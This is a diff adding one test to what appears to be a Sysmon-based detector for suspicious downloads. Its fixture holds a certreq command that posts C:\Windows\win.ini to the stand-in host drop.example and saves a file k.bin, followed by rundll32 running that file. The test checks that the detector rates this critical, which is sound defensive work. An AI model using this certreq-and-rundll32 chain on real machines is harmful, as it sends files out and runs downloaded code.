@@ -194,3 +194,13 @@ test('alerts that concern no download, URL or upload carry no extent at all', ()
   assert.equal(alerts.length, 2);
   for (const a of alerts) assert.equal('extent' in (a.context ?? {}), false);
 });
+
+test('a download run only through a script host says which one', () => {
+  const events = [
+    withCwd(sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-c', pid: 1, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini C:\\ProgramData\\k.bin' }), 'C:\\'),
+    sysmonStart({ time: '2026-03-01T10:00:02.000Z', guid: 'g-r', pid: 2, image: RUNDLL32, cmd: 'rundll32.exe "C:\\ProgramData\\k.bin",DllMain' }),
+  ];
+  const [a] = scan(events, certreqOnly);
+  assert.equal(a!.context!.severity, 'critical');
+  assert.match(a!.context!.reason!, /and the downloaded file C:\\ProgramData\\k\.bin ran via rundll32\.exe at 2026-03-01T10:00:02\.000Z as PID 2$/);
+});
